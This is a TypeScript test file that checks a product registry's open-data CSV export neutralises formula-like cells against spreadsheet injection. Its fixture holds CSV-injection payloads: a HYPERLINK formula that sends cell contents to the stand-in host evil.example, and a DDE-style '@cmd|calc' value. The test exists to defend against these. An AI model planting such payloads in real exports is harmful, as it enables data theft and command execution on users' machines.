// Open data as CSV is read in spreadsheets: a brand, model, name or manufacturer that starts like a formula
// comes out neutralised (prefixed with '), on both databases (issue 18, point 2).
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { DIALECTS } from '../support/dialects.js';
import { declarationFor, operator } from '../support/registry.js';
import { openWebFixture, type WebFixture } from './support.js';

const BRAND = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

for (const dialect of DIALECTS) {
  describe(dialect, () => {
    let f: WebFixture;
    before(async () => {
      f = await openWebFixture({ dialect });
      const doc = declarationFor({ brand: BRAND, model: '+SUM(1,2)', gtins: ['04006381333931'] });
      doc.product.name = '@cmd|calc';
      await f.services.declarations.submitForModel(operator, doc, { organisationId: f.acme.orgId });
      const org = await f.services.organisations.registerOrganisation(operator, {
        name: '-2+3 Devices',
        kind: 'manufacturer',
      });
      await f.services.declarations.submitForModel(
        operator,
        declarationFor({ brand: 'Minus', model: 'M1', gtins: ['05000000000005'] }),
        { organisationId: org.id },
      );
    });
    after(async () => {
      await f.close();
    });

    test('a formula-like brand, model, name or manufacturer in /open-data/products.csv is neutralised', async () => {
      const res = await f.app.inject('/open-data/products.csv');
      assert.equal(res.statusCode, 200);
      const rows = parse(res.body, { columns: true }) as Record<string, string>[];
      const evil = rows.find((r) => r.model === "'+SUM(1,2)");
      assert.ok(evil, 'the product is listed with its model neutralised');
      assert.equal(evil.brand, `'${BRAND}`);
      assert.equal(evil.name, "'@cmd|calc");
      assert.equal(rows.find((r) => r.brand === 'Minus')?.manufacturer, "'-2+3 Devices");
      for (const row of rows)
        for (const [column, cell] of Object.entries(row))
          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${column} of ${row.product_id}`);
    });
  });
}
